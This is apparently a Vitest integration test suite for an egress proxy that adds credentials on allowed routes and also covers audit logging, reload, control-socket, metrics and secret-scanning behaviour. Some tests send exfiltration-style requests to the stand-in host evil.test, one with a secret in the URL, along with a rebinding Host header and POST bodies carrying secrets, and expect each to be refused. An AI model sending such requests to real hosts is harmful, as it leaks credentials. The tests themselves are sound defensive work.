import { execFile, spawnSync } from "node:child_process";
import { chmod, lstat, readFile, rename, stat, symlink, writeFile } from "node:fs/promises";
import { promisify } from "node:util";
import { afterAll, beforeAll, expect, test } from "vitest";
import { ask, type ControlOrder } from "@bottle/standalone";
import { startConnectProxy } from "@bottle/way-out/testing";
import { checkLeaks } from "../testing/leaks.ts";
import { type Folder, makeFolder, type Running } from "../testing/standalone.ts";
import { startUpstream, type Upstream } from "../testing/upstream.ts";

checkLeaks();
const exec = promisify(execFile);
const secret = "real-secret-0123456789";
const host = "api.test";
const patience = { timeout: 15_000, interval: 100 };
let upstream: Upstream;
let folder: Folder;

beforeAll(async () => {
  upstream = await startUpstream(host, (request, response) => response.end(`${request.url} ${request.headers.authorization ?? "bare"}`));
});
afterAll(() => upstream[Symbol.asyncDispose]());
const inFolder = async (): Promise<Folder> => {
  folder = await makeFolder();
  await writeFile(folder.file("upstream.pem"), upstream.caCertificate);
  return folder;
};

const yaml = (more = "", routes = `[{ host: ${host}, auth: { scheme: bearer, token_ref: API_TOKEN } }]`): string => `
listen: 127.0.0.1:0
ca_directory: ca
tokens: { API_TOKEN: { env: SECRET_IN_ENV } }
upstream_cas: [upstream.pem]
hosts: { ${host}: "${upstream.address}" }
routes: ${routes}
${more}`;
const env = { SECRET_IN_ENV: secret };
const curl = async (running: Running, url: string, ...args: readonly string[]): Promise<string> => {
  const { stdout } = await exec("curl", ["-sS", "-x", `http://${running.address}`, "--cacert", folder.file("ca/ca.pem"), "-w", " %{http_code}", ...args, url], { env: { PATH: process.env["PATH"] } });
  return stdout;
};
const control = (order: string): ReturnType<Folder["run"]> => folder.run("control", order, "--socket", folder.file("control.sock"));
const order = async (what: ControlOrder): Promise<unknown> => (await ask(folder.file("control.sock"), what, "proxy")).answer;

test("curl goes out by a route with the credential, and reads why elsewhere not; both are on record, the secret nowhere", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml());
  const running = await dir.start({ env });
  expect(await curl(running, `https://${host}/v1?q=1`)).toBe(`/v1?q=1 Bearer ${"*".repeat(secret.length)} 200`);
  expect(upstream.requests.at(-1)?.headers.authorization).toBe(`Bearer ${secret}`);
  const refused = await curl(running, "http://evil.test/x");
  expect(refused).toMatch(/ 403$/);
  expect(JSON.parse(refused.replace(/ 403$/, ""))).toMatchObject({ layer: "route", reason: "no-route", host: "evil.test", method: "GET", path: "/x", retry: "ask" });
  await curl(running, `http://evil.test/${secret}/${encodeURIComponent(secret)}`);
  expect(await running.end("SIGTERM")).toBe(0);
  expect(running.lines.map(({ type, decision, reason }) => [type, decision, reason].filter(Boolean).join(" "))).toEqual(
    ["start", "request allow allowed", "request deny no-route", "request deny no-route", "stop"]);
  expect(running.lines[1]).toMatchObject({ host, method: "GET", path: "/v1", route: host, tokenRef: "API_TOKEN", status: 200, time: expect.stringMatching(/^\d{4}-.*Z$/) as string });
  expect(JSON.stringify(running.lines) + running.said()).not.toContain(secret);
});

test("SIGHUP brings a new file into force, and a bad one leaves the old in force and says why", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("audit: { file: audit.jsonl }\noperator: { control: control.sock }"));
  const running = await dir.start({ env });
  const audit = async (): Promise<readonly Readonly<Record<string, unknown>>[]> =>
    (await readFile(dir.file("audit.jsonl"), "utf8")).trimEnd().split("\n").map((line) => JSON.parse(line) as Readonly<Record<string, unknown>>);
  await dir.configure(yaml("audit: { file: audit.jsonl }\noperator: { control: control.sock }\nmax_connections: 9", "[{ host: other.test }]"));
  running.child.kill("SIGHUP");
  await expect.poll(running.said, patience).toContain("generation 2 is in force (SIGHUP), 1 route. Changed, but a restart is needed: max_connections.");
  expect(await curl(running, `http://${host}/`)).toContain("no-route");
  await dir.configure(yaml("", "[{ host: other.test, metods: [GET] }]"));
  running.child.kill("SIGHUP");
  await expect.poll(running.said, patience).toContain("\"metods\" is not a key of `routes`.\n  → Did you mean methods?");
  expect(await order("status")).toMatchObject({ ok: true, generation: 2 });
  expect(await audit()).toMatchObject([
    { type: "start", generation: 1 }, { type: "reload", by: "SIGHUP", outcome: "applied", generation: 2, restartNeeded: ["max_connections"] },
    { type: "request", reason: "no-route" }, { type: "reload", by: "SIGHUP", outcome: "refused", code: "config-invalid", generation: 2 },
  ]);
  expect((await stat(dir.file("audit.jsonl"))).mode & 0o777).toBe(0o600);
});

test("the control socket confirms each order by its generation, and is its owner's alone", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("operator: { control: control.sock }"));
  const running = await dir.start({ env });
  expect((await stat(dir.file("control.sock"))).mode & 0o777).toBe(0o600);
  expect(await control("reload")).toEqual({ status: 0, stdout: "generation 2 is in force\n", stderr: "" });
  expect(await folder.spawn("control", "freeze", "--socket", "control.sock")).toEqual({ status: 0, stdout: "frozen, generation 2\n", stderr: "" });
  expect(await curl(running, `http://${host}/`)).toContain("\"reason\":\"frozen\"");
  expect(await control("thaw")).toEqual({ status: 0, stdout: "thawed, generation 2\n", stderr: "" });
  expect(await curl(running, `https://${host}/`)).toMatch(/ 200$/);
  await dir.configure("listen: 8080\n");
  const refused = await control("reload");
  expect(refused).toMatchObject({ status: 1, stdout: "" });
  expect(refused.stderr).toMatch(/^egress-addon: The reload was refused\.\n.*egress\.yaml:1:1\n[^]*\nGeneration 2 stays in force\.\n$/);
  await dir.configure(yaml("operator: { control: control.sock }"));
  expect(JSON.parse((await dir.run("control", "status", "--json")).stdout)).toMatchObject({ ok: true, generation: 2, frozen: false });
  await running.end("SIGTERM");
  expect(await control("status")).toMatchObject({ status: 3, stderr: expect.stringContaining("ENOENT") as string });
});

test("metrics and health are on the operator's port, and orders are not", async () => {
  await using dir = await inFolder();
  const port = 20_000 + process.pid % 20_000;
  await dir.configure(yaml(`operator: { listen: 127.0.0.1:${port} }\nallow_private: [{ host: 127.0.0.1, port: ${port}, cidr: 127.0.0.0/8 }]`, `[{ host: ${host} }, { host: 127.0.0.1, ports: [${port}] }]`));
  const running = await dir.start({ env });
  const get = async (path: string, ...args: readonly string[]): Promise<string> => (await exec("curl", ["-sS", "-w", "%{http_code}", ...args, `http://127.0.0.1:${port}${path}`])).stdout;
  await curl(running, `https://${host}/`);
  await curl(running, "http://no-such-route.test/");
  expect(await get("/healthz")).toBe("ok\n200");
  expect(await get("/readyz")).toBe("ready\n200");
  const metrics = await get("/metrics");
  for (const line of [
    "egress_requests_total{decision=\"allow\",layer=\"route\",reason=\"allowed\"} 1", "egress_requests_total{decision=\"deny\",layer=\"route\",reason=\"no-route\"} 1",
    `egress_route_requests_total{route="${host}"} 1`, "egress_policy_generation 1", "egress_frozen 0", "egress_tokens_missing 0",
  ]) expect(metrics.split("\n")).toContain(line);
  expect(metrics).not.toMatch(/no-such-route|real-secret/);
  expect(metrics.split("\n").filter((line) => line !== "" && line !== "200" && !/^(?:# (?:HELP|TYPE) \w+ .+|\w+(?:\{\w+="[^"]*"(?:,\w+="[^"]*")*\})? [0-9.e+]+)$/.test(line))).toEqual([]);
  expect(await get("/control/freeze", "-X", "POST")).toMatch(/control socket.*\n403$/);
  expect(await get("/control/status")).toMatch(/403$/);
  expect(await get("/metrics", "-H", "Host: rebound.evil.test")).toMatch(/421$/);
  expect(await get("/metrics", "-X", "DELETE")).toMatch(/405$/);
  expect(await curl(running, `http://127.0.0.1:${port}/metrics`)).toContain("own-listener");
});

test("an audit log that cannot be written freezes the proxy, and a thaw does not help until it can", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("audit: { file: audit.jsonl }\noperator: { control: control.sock }"));
  const running = await dir.start({ env });
  await rename(dir.file("audit.jsonl"), dir.file("old.jsonl"));
  await symlink("/dev/full", dir.file("audit.jsonl"));
  running.child.kill("SIGUSR1");
  await expect.poll(() => curl(running, `https://${host}/`).catch(String), patience).toContain("403");
  expect(running.said()).toContain("ENOSPC. The proxy is frozen");
  expect(await order("thaw")).toMatchObject({ ok: false, code: "audit-failed" });
  expect(await order("status")).toMatchObject({ frozen: true });
  await rename(dir.file("old.jsonl"), dir.file("audit.jsonl"));
  running.child.kill("SIGUSR1");
  await expect.poll(() => order("thaw"), patience).toMatchObject({ ok: true, frozen: false });
  expect(await curl(running, `https://${host}/`)).toMatch(/ 200$/);
  // Node starts a debugger on SIGUSR1 where nobody listens for it.
  expect(running.said()).not.toContain("Debugger");
});

test("where nothing can be recorded, nothing starts", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("audit: { file: /dev/full }"));
  expect(await dir.run()).toMatchObject({ status: 3, stderr: expect.stringContaining("The audit log cannot be written to /dev/full: ENOSPC.") as string });
});

test("a log that was moved away is made anew, and half a line is ended before the next", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("audit: { file: audit.jsonl }"));
  await writeFile(dir.file("audit.jsonl"), "{\"type\":\"requ");
  const running = await dir.start({ env });
  expect((await readFile(dir.file("audit.jsonl"), "utf8")).split("\n")).toMatchObject(["{\"type\":\"requ", expect.stringContaining("\"start\"") as string, ""]);
  await rename(dir.file("audit.jsonl"), dir.file("audit.1"));
  await expect.poll(async () => {
    await curl(running, "http://evil.test/");
    return readFile(dir.file("audit.jsonl"), "utf8").catch(() => "");
  }, patience).toContain("no-route");
});

test("after kill -9 the same sockets are taken over; while it lives they are not", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("operator: { control: control.sock }").replace("127.0.0.1:0", "./proxy.sock"));
  const running = await dir.start({ env });
  expect(await dir.run()).toMatchObject({ status: 3, stderr: expect.stringContaining("control.sock: EADDRINUSE") as string });
  expect(await order("status")).toMatchObject({ ok: true });
  await running.end("SIGKILL");
  expect((await lstat(dir.file("proxy.sock"))).isSocket()).toBe(true);
  const again = await dir.start({ env });
  expect(await order("status")).toMatchObject({ ok: true });
  expect(await again.end("SIGINT")).toBe(0);
  for (const name of ["proxy.sock", "control.sock"]) await expect(lstat(dir.file(name))).rejects.toMatchObject({ code: "ENOENT" });
});

test("two on one port: the second says so and ends", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml());
  const { address } = await dir.start({ env });
  await dir.configure(yaml().replace("127.0.0.1:0", address));
  expect(await dir.run()).toMatchObject({ status: 3, stdout: "", stderr: `egress-addon: The egress proxy could not listen on ${address}: EADDRINUSE.\n` });
});

test("a token's file and command are read anew without a restart, and a reload brings new sources", async () => {
  await using dir = await inFolder();
  const sources = (source: string): string => yaml("operator: { control: control.sock }").replace("{ env: SECRET_IN_ENV }", source);
  await writeFile(dir.file("token"), "first-value-000\n");
  await dir.configure(sources("{ file: token }"));
  const running = await dir.start();
  const arrived = async (): Promise<string | undefined> => {
    await curl(running, `https://${host}/`);
    return upstream.requests.at(-1)?.headers.authorization;
  };
  expect(await arrived()).toBe("Bearer first-value-000");
  await writeFile(dir.file("token"), "second-value-00\n");
  await expect.poll(arrived, patience).toBe("Bearer second-value-00");
  await writeFile(dir.file("say"), "#!/bin/sh\necho run >> runs\necho third-value-000\n");
  await chmod(dir.file("say"), 0o700);
  await dir.configure(sources("{ command: [./say], ttl_seconds: 600 }"));
  expect(await order("reload")).toMatchObject({ ok: true });
  expect([await arrived(), await arrived()]).toEqual(["Bearer third-value-000", "Bearer third-value-000"]);
  expect(await readFile(dir.file("runs"), "utf8")).toBe("run\n");
  await dir.configure(sources("{ command: [./no-such-program] }"));
  expect(await order("reload")).toMatchObject({ ok: true });
  expect(await curl(running, `https://${host}/`)).toContain("credential-unavailable");
  expect(await order("status")).toMatchObject({ tokensMissing: [{ name: "API_TOKEN", problem: "the command cannot be started (ENOENT)" }] });
});

test("upstreams are reached through a proxy with its login, and what no_proxy names is not", async () => {
  await using dir = await inFolder();
  await using hop = await startConnectProxy(() => ({ port: Number(upstream.address.split(":")[1]) }));
  const through = (noProxy: string): string => yaml(`proxy_credential: { username: in, password_env: IN }
upstream_proxy: { url: "http://127.0.0.1:${hop.port}", credential: { username: me, password_env: HOP }, no_proxy: [${noProxy}] }`).replace(/hosts:.*/, "");
  await dir.configure(through("other.test"));
  const running = await dir.start({ env: { ...env, HOP: "hop-secret", IN: "in-secret" } });
  expect(await curl(running, `https://${host}/hop`, "--proxy-user", "in:in-secret")).toMatch(/^\/hop .* 200$/);
  expect(hop.heads[0]).toContain(`Proxy-Authorization: Basic ${Buffer.from("me:hop-secret").toString("base64")}`);
  expect(hop.heads[0]).toMatch(new RegExp(`^CONNECT ${host}:443 `));
  await running.end("SIGTERM");
  expect(JSON.stringify(running.lines) + running.said()).not.toMatch(/hop-secret|in-secret/);
  await dir.configure(through(host));
  const direct = await dir.start({ env: { ...env, HOP: "hop-secret", IN: "in-secret" } });
  expect(await curl(direct, `https://${host}/hop`, "--proxy-user", "in:in-secret")).toMatch(/ 502$/);
  expect(hop.heads).toHaveLength(1);
});

test("a placeholder becomes the credential on its own route, and an alarm elsewhere", async () => {
  await using dir = await inFolder();
  const { stdout: placeholder } = await dir.run("placeholder");
  await dir.configure(yaml(`placeholders: { API_TOKEN: ${placeholder} }`, `[{ host: ${host}, paths: ["/own/**"], auth: { scheme: placeholder, token_ref: API_TOKEN } }, { host: ${host}, paths: ["/else"] }]`));
  const running = await dir.start({ env });
  const header = `X-Any: ${placeholder.trim()}`;
  expect(await curl(running, `https://${host}/own/x`, "-H", header)).toMatch(/ 200$/);
  expect(upstream.requests.at(-1)?.headers["x-any"]).toBe(secret);
  expect(await curl(running, `https://${host}/else`, "-H", header)).toMatch(/ 403$/);
  await running.end("SIGTERM");
  expect(running.lines.filter(({ alarm }) => alarm === true)).toMatchObject([{ type: "request", decision: "deny", path: "/else" }]);
});

test("a token's value and a file's text do not leave by any route, before a request has used them too", async () => {
  await using dir = await inFolder();
  await writeFile(dir.file("deploy.key"), "deploy-key-value-0001\n");
  await writeFile(dir.file("canary"), "canary-value-00000001\n");
  await dir.configure(yaml("dlp: { known_secrets: [deploy.key], canaries: [canary] }\noperator: { control: control.sock }", `[{ host: ${host} }]`));
  const running = await dir.start({ env });
  const before = upstream.requests.length;
  for (const value of [secret, "deploy-key-value-0001", "canary-value-00000001", Buffer.from("deploy-key-value-0001").toString("base64")]) {
    expect(await curl(running, `https://${host}/`, "-d", `x=${value}`)).toMatch(/ 403$/);
  }
  expect(await curl(running, `https://${host}/`, "-d", "x=harmless")).toMatch(/ 200$/);
  // The last bytes of a body are held back until the scan is through, so a refused one may have begun; none was complete.
  expect(upstream.requests.slice(before).filter(({ complete }) => complete)).toHaveLength(1);
  const metrics = (await exec("curl", ["-sS", "--unix-socket", dir.file("control.sock"), "http://localhost/metrics"])).stdout;
  for (const labels of ['kind="known",rule="API_TOKEN"', 'kind="known",rule="deploy.key"', 'kind="canary",rule="canary"']) {
    expect(metrics).toMatch(new RegExp(`^egress_dlp_findings_total\\{${labels}\\} [1-9]`, "m"));
  }
  expect(metrics).toContain("\negress_requests_total{decision=\"deny\",layer=\"dlp\",reason=\"secret-found\"} 4\n");
  await expect.poll(() => order("status"), patience).toMatchObject({ connections: 0, active: 0 });
  await running.end("SIGTERM");
  expect(JSON.stringify(running.lines)).not.toMatch(/real-secret|deploy-key-value|canary-value/);
});

const hasPrlimit = spawnSync("prlimit", ["--version"]).status === 0;
test.skipIf(!hasPrlimit)("a disk that is full takes no half line", async () => {
  await using dir = await inFolder();
  await dir.configure(yaml("audit: { file: audit.jsonl }"));
  const running = await dir.start({ env, under: ["prlimit", "--fsize=4000"] });
  await expect.poll(() => curl(running, `http://evil.test/${"x".repeat(300)}`), { timeout: 15_000, interval: 10 }).toContain("frozen");
  const text = await readFile(dir.file("audit.jsonl"), "utf8");
  expect(text.endsWith("}\n")).toBe(true);
  expect(text.trimEnd().split("\n").every((line) => JSON.parse(line) !== null)).toBe(true);
});
